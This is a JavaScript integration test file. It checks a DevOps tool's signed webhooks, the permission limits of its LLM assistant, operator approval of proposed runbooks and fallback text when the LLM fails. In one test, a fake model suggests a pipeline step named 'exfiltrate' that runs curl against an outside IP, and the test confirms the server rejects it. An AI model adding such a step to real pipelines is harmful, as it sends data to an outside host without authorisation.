// Notifications and the assistant through the real @trpc/client against the real binary:
// a loopback webhook receiver checks the one signed message per incident state change, and a
// fake OpenAI-compatible server (no LLM runs here; it follows the chat-completions wire format)
// asks for a read-only tool and for a mutation — the server runs the first and refuses the second.
// The same fake writes the modules' prose (post-mortem narrative, release-note summary, pipeline
// refinement, change-log summary) and proposes a runbook, which becomes a pending approval; when
// it fails, each module gives its deterministic output and says why.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { createHmac } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createTRPCUntypedClient, httpLink } from '@trpc/client';
import { Server, runCli, sleep, tempDir, waitFor } from './harness.mjs';

let server;
let receiver;
let llm;
const received = [];
const llmRequests = [];
let adminToken;
let operatorToken;
let viewerToken;
let llmFails = false;       // the fake answers HTTP 500 to every request
let refinementAddsCommand = false;
let proposeRunbookId = 0;

function listen(handler) {
  return new Promise((resolve) => {
    const s = createServer(handler);
    s.listen(0, '127.0.0.1', () => resolve(s));
  });
}

function readBody(req) {
  return new Promise((resolve) => {
    let body = '';
    req.on('data', (d) => { body += d; });
    req.on('end', () => resolve(body));
  });
}

function client(token) {
  return createTRPCUntypedClient({
    links: [httpLink({ url: `${server.url}/trpc`, headers: { authorization: `Bearer ${token}` } })],
  });
}

function completion(message) {
  return {
    id: 'chatcmpl-fake', object: 'chat.completion', model: 'fake-model',
    choices: [{ index: 0, message, finish_reason: message.tool_calls ? 'tool_calls' : 'stop' }],
    usage: { prompt_tokens: 40, completion_tokens: 8, total_tokens: 48 },
  };
}

// The facts of a prose request (the quoted <data> block of its last message), or null.
function quotedFacts(body) {
  const text = body.messages.at(-1)?.content ?? '';
  const m = /<data source="([^"]+)">(.*)<\/data>$/s.exec(text);
  return m ? { source: m[1], facts: JSON.parse(JSON.parse(m[2])) } : null;
}

function proseAnswer(body) {
  const q = quotedFacts(body);
  if (!q) return null;
  switch (q.source) {
    case 'incident.rca':
      return `FAKE-RCA: ${q.facts.ranking[0]?.service} ranks first.`;
    case 'incident.postmortem':
      return `FAKE-NARRATIVE: ${q.facts.incident.title} was ${q.facts.incident.severity}.`;
    case 'cicd.release_notes':
      return `FAKE-SUMMARY: ${q.facts.features} feature(s), ${q.facts.fixes} fix(es).`;
    case 'docs.changelog':
      return 'FAKE-CHANGELOG-SUMMARY: quiet week.';
    case 'cicd.pipeline_refinement': {
      const pipeline = structuredClone(q.facts.pipeline);
      pipeline.name = 'refined';
      if (refinementAddsCommand) pipeline.jobs[0].steps.push({ name: 'exfiltrate', argv: ['curl', 'http://203.0.113.9'] });
      return '```json\n' + JSON.stringify({ pipeline, notes: 'renamed the pipeline' }) + '\n```';
    }
    default:
      return null;
  }
}

before(async () => {
  receiver = await listen(async (req, res) => {
    received.push({ headers: req.headers, body: await readBody(req) });
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end('ok');
  });
  llm = await listen(async (req, res) => {
    const body = JSON.parse(await readBody(req));
    llmRequests.push({ url: req.url, headers: req.headers, body });
    if (llmFails) {
      res.writeHead(500, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: { message: 'the fake model is down' } }));
      return;
    }
    const prose = proseAnswer(body);
    if (prose !== null) {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(completion({ role: 'assistant', content: prose })));
      return;
    }
    const question = body.messages.find((m) => m.role === 'user')?.content ?? '';
    if (question.includes('restart checkout')) {
      const done = body.messages.some((m) => m.role === 'tool');
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(done
        ? completion({ role: 'assistant', content: 'I proposed restarting checkout; an operator decides.' })
        : completion({ role: 'assistant', content: null, tool_calls: [{ id: 'p1', type: 'function',
          function: { name: 'propose_action', arguments: JSON.stringify({
            action: 'run runbook restart-checkout', reason: 'checkout errors', runbookId: proposeRunbookId, incidentId: 1,
          }) } }] })));
      return;
    }
    const toolResults = body.messages.filter((m) => m.role === 'tool');
    const answer = toolResults.length === 0
      ? completion({
        role: 'assistant', content: null,
        tool_calls: [
          { id: 'c1', type: 'function', function: { name: 'incidentCommander__list', arguments: '{"limit":5}' } },
          { id: 'c2', type: 'function', function: { name: 'incidentCommander__resolve', arguments: '{"id":1}' } },
        ],
      })
      : completion({ role: 'assistant', content: 'One incident is open: #1 checkout errors.' });
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(answer));
  });
  server = await new Server({
    extraArgs: ['--llm-url', `http://127.0.0.1:${llm.address().port}/v1`, '--llm-model', 'fake-model',
      '--runbook-executables', '/bin/echo'],
    env: { DEVOPS_AI_LLM_API_KEY: 'sk-integration' },
  }).start();
  adminToken = server.createToken('admin', 'admin');
  operatorToken = server.createToken('operator', 'alerts');
  viewerToken = server.createToken('viewer', 'reader');
});

after(async () => {
  if (server) { await server.stop(); server.cleanup(); }
  receiver?.close();
  llm?.close();
});

async function postAlert(severity) {
  const r = await fetch(`${server.url}/api/webhooks/generic`, {
    method: 'POST',
    headers: { authorization: `Bearer ${operatorToken}`, 'content-type': 'application/json' },
    body: JSON.stringify([{ title: 'Checkout errors', severity, fingerprint: 'checkout-1',
      labels: { service: 'checkout', team: 'web' } }]),
  });
  assert.equal(r.status, 200, await r.text());
}

test('one signed webhook per incident state change, with a delivery log', async () => {
  const admin = client(adminToken);
  const secret = 'integration-secret-0123456789';
  const channel = await admin.mutation('notifications.createChannel', {
    name: 'receiver', type: 'webhook', config: { url: `http://127.0.0.1:${receiver.address().port}/hook`, secret },
  });
  assert.equal(channel.config.secret, '<redacted>');
  await assert.rejects(admin.mutation('notifications.createRoute', { name: 'bad', channels: [channel.id],
    quietHours: { start: '25:00', end: '07:00' } }), /route\.quietHours\.start/);
  await admin.mutation('notifications.createRoute', { name: 'web team', kinds: ['incident.*'], labels: { team: 'web' },
    channels: [channel.id] });
  // Viewers may read but not configure.
  await assert.rejects(client(viewerToken).mutation('notifications.createRoute', { name: 'x', channels: [channel.id] }),
    /FORBIDDEN|role/i);

  await postAlert('critical');
  await postAlert('critical');  // the same alert again: same incident, same state
  await waitFor('the webhook delivery', async () => received.length >= 1, 15000);
  await sleep(1500);
  assert.equal(received.length, 1, 'one message for one incident state');
  const [msg] = received;
  const ts = msg.headers['x-devops-ai-timestamp'];
  const expected = 'sha256=' + createHmac('sha256', secret).update(`${ts}.${msg.body}`).digest('hex');
  assert.equal(msg.headers['x-devops-ai-signature'], expected);
  const body = JSON.parse(msg.body);
  assert.equal(body.kind, 'incident.open');
  assert.match(body.fields.incident.title, /^Checkout errors/);
  assert.equal(body.fields.incident.severity, 'critical');

  const log = await client(viewerToken).query('notifications.listDeliveries', {});
  assert.equal(log.total, 1);
  assert.equal(log.items[0].status, 'sent');
  assert.equal(log.items[0].log[0].responseStatus, 200);
});

test('the assistant reads through tools and the server refuses a mutation the model asks for', async () => {
  const viewer = client(viewerToken);
  const status = await viewer.query('assistant.status', {});
  assert.equal(status.llmConfigured, true);
  assert.equal(status.model, 'fake-model');
  assert.ok(status.tools.includes('incidentCommander.list'));
  assert.ok(!status.tools.includes('incidentCommander.resolve'));

  const answer = await viewer.mutation('assistant.ask', { question: 'What is on fire?' });
  assert.equal(answer.mode, 'llm');
  assert.equal(answer.answer, 'One incident is open: #1 checkout errors.');
  assert.deepEqual(answer.toolCalls.map((c) => c.allowed), [true, false]);
  assert.match(answer.toolCalls[1].error, /PERMISSION_DENIED/);
  assert.equal(answer.citations[0].procedure, 'incidentCommander.list');
  assert.deepEqual(answer.citations[0].ids, [1]);
  const incident = await viewer.query('incidentCommander.get', { id: 1 });
  assert.notEqual(incident.status, 'resolved', 'the model could not resolve the incident');

  assert.equal(llmRequests.length, 2);
  assert.equal(llmRequests[0].url, '/v1/chat/completions');
  assert.equal(llmRequests[0].headers.authorization, 'Bearer sk-integration');
  const toolMsgs = llmRequests[1].body.messages.filter((m) => m.role === 'tool');
  assert.match(toolMsgs[0].content, /^<data source="incidentCommander.list">/);
  assert.match(toolMsgs[1].content, /refused/);

  await assert.rejects(viewer.mutation('assistant.ask', { question: '' }), /input\.question/);
  const history = await viewer.query('assistant.history', {});
  assert.equal(history.total, 1);
});

test('devops-ai ask answers from the same store without an LLM, and says so', async () => {
  const r = runCli(['ask', 'What is on fire?', '--data-dir', server.dataDir]);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /an LLM is not configured/);
  assert.match(r.stdout, /1 open incident:\n- #1 \[critical\] Checkout errors/);
  assert.match(r.stdout, /source: incidentCommander\.list \[1\]/);
  const bad = runCli(['ask', '', '--data-dir', server.dataDir]);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /QUESTION/);
});

test('module prose comes from the LLM, labelled, and falls back to the deterministic text', async () => {
  const operator = client(operatorToken);
  // Root-cause ranking: computed as without an LLM, with the LLM's narrative of it beside.
  const rca = await operator.mutation('incidentCommander.rankRootCauses', { id: 1 });
  assert.equal(rca.narrative.mode, 'llm');
  assert.equal(rca.narrative.text, `FAKE-RCA: ${rca.ranking[0].service} ranks first.`);
  assert.equal(rca.ranking[0].service, 'checkout');
  // Post-mortem: the narrative section, marked as the LLM's, above the generated sections.
  const pm = await operator.mutation('incidentCommander.generatePostMortem', { incidentId: 1 });
  assert.equal(pm.current.narrative.mode, 'llm');
  assert.equal(pm.current.narrative.model, 'fake-model');
  assert.match(pm.current.content, /## Narrative\n\n\*Written by the LLM `fake-model`/);
  assert.match(pm.current.content, /FAKE-NARRATIVE: Checkout errors.* was critical\./);
  assert.match(pm.current.content, /## Timeline/);
  const sent = llmRequests.at(-1);
  assert.equal(sent.body.tools, undefined, 'no tools for prose');
  assert.equal(quotedFacts(sent.body).source, 'incident.postmortem');

  // Release notes and pipeline refinement over a small repository.
  const repo = tempDir('dai-llm-repo');
  writeFileSync(join(repo, 'Makefile'), 'all:\n\ttrue\ntest:\n\ttrue\n');
  const git = (...args) => execFileSync('git', ['-c', 'user.name=Ann Dev', '-c', 'user.email=ann@example.com',
    '-c', 'init.defaultBranch=main', ...args], { cwd: repo, stdio: 'pipe' });
  git('init', '-q');
  git('add', '.');
  git('commit', '-qm', 'feat(build): a Makefile (#1)');
  const notes = await operator.mutation('cicdOrchestrator.releaseNotes', { repository: repo, title: 'v1' });
  assert.equal(notes.narrative.mode, 'llm');
  assert.match(notes.markdown, /^# v1\n\n## Summary\n\n\*Written by the LLM `fake-model`[^\n]*\n\nFAKE-SUMMARY: 1 feature\(s\), 0 fix\(es\)\.\n\n/);
  assert.match(notes.markdown, /## Features/);

  const gen = await operator.mutation('cicdOrchestrator.generatePipeline', { repository: repo, format: 'github' });
  assert.equal(gen.refinement.accepted, true, JSON.stringify(gen.refinement));
  assert.equal(gen.refinement.suggestion.definition.name, 'refined');
  assert.equal(gen.refinement.suggestion.notes, 'renamed the pipeline');
  assert.notEqual(gen.definition.name, 'refined', 'the generated pipeline is kept as it is');
  refinementAddsCommand = true;
  const refused = await operator.mutation('cicdOrchestrator.generatePipeline', { repository: repo, format: 'github' });
  refinementAddsCommand = false;
  assert.equal(refused.refinement.accepted, false);
  assert.match(refused.refinement.rejected, /the command curl .* is not one the generated pipeline runs/);
  assert.equal(refused.refinement.suggestion, undefined);
  assert.deepEqual(refused.definition, gen.definition);
  assert.equal(refused.yaml, gen.yaml);

  const log = await operator.mutation('documentationGenerator.generate', { docType: 'changelog' });
  assert.match(log.content, /## Summary\n\n\*Written by the LLM `fake-model` from the change log below/);
  assert.match(log.content, /FAKE-CHANGELOG-SUMMARY/);
  assert.equal(log.metadata.narrative.mode, 'llm');

  // The LLM fails: every module answers its deterministic output and says why.
  llmFails = true;
  try {
    const rca2 = await operator.mutation('incidentCommander.rankRootCauses', { id: 1 });
    assert.equal(rca2.narrative.mode, 'deterministic');
    assert.match(rca2.narrative.reason, /the fake model is down/);
    assert.deepEqual(rca2.ranking, rca.ranking);
    const pm2 = await operator.mutation('incidentCommander.generatePostMortem', { incidentId: 1 });
    assert.equal(pm2.current.narrative.mode, 'deterministic');
    assert.match(pm2.current.narrative.reason, /the fake model is down/);
    assert.doesNotMatch(pm2.current.content, /Narrative|FAKE/);
    // The generated sections are the same (the timeline grew by the generations in between; the
    // unit test compares whole documents against the deterministic oracle).
    const tail = (md) => md.slice(md.indexOf('## Root cause'));
    assert.equal(tail(pm2.current.content), tail(pm.current.content));
    const notes2 = await operator.mutation('cicdOrchestrator.releaseNotes', { repository: repo, title: 'v1' });
    assert.equal(notes2.narrative.mode, 'deterministic');
    assert.match(notes2.narrative.reason, /HTTP 500/);
    assert.equal(notes2.markdown, notes.markdown.replace(/## Summary\n\n[^]*?\n\n[^]*?\n\n/, ''));
    const gen2 = await operator.mutation('cicdOrchestrator.generatePipeline', { repository: repo, format: 'github' });
    assert.equal(gen2.refinement.mode, 'deterministic');
    assert.equal(gen2.refinement.accepted, false);
    assert.deepEqual(gen2.definition, gen.definition);
    const log2 = await operator.mutation('documentationGenerator.generate', { docType: 'changelog' });
    // (It embeds the release notes above, with their own labelled summary.)
    assert.doesNotMatch(log2.content, /^# [^\n]*\n\n## Summary|FAKE-CHANGELOG-SUMMARY/);
    assert.equal(log2.metadata.narrative.mode, 'deterministic');
  } finally {
    llmFails = false;
  }
});

test('a runbook the assistant proposes waits for an operator; the assistant never starts it', async () => {
  const operator = client(operatorToken);
  const rb = await operator.mutation('incidentCommander.createRunbook', { definition:
    'name: restart-checkout\nrequiresApproval: false\nparameters: [service]\nsteps:\n' +
    '  - command: {argv: [/bin/echo, "{{service}}"], destructive: false}\n' });
  proposeRunbookId = rb.id;
  const answer = await client(viewerToken).mutation('assistant.ask', { question: 'please restart checkout' });
  assert.equal(answer.mode, 'llm');
  assert.equal(answer.proposals.length, 1, JSON.stringify(answer));
  const { approval } = answer.proposals[0];
  assert.equal(approval.kind, 'runbook_execution');
  assert.equal(approval.incidentId, 1);
  const execution = await operator.query('incidentCommander.getExecution', { id: approval.executionId });
  assert.equal(execution.status, 'awaiting_approval');
  assert.match(execution.triggeredBy, /^assistant for /);
  await sleep(500);
  assert.equal((await operator.query('incidentCommander.getExecution', { id: approval.executionId })).status,
    'awaiting_approval', 'nothing runs before a person approves');
  // Shown where approvals are shown: the incident's executions.
  const listed = await operator.query('incidentCommander.listExecutions', { incidentId: 1 });
  assert.ok(listed.items.some((e) => e.id === approval.executionId && e.status === 'awaiting_approval'));
  // A viewer cannot approve; an operator can, through the ordinary procedure.
  await assert.rejects(client(viewerToken).mutation('incidentCommander.approveExecution', { id: approval.executionId }),
    /FORBIDDEN|role/i);
  const approved = await operator.mutation('incidentCommander.approveExecution', { id: approval.executionId });
  assert.notEqual(approved.status, 'awaiting_approval');
  await waitFor('the approved execution to finish', async () =>
    (await operator.query('incidentCommander.getExecution', { id: approval.executionId })).status === 'succeeded', 20000);
});
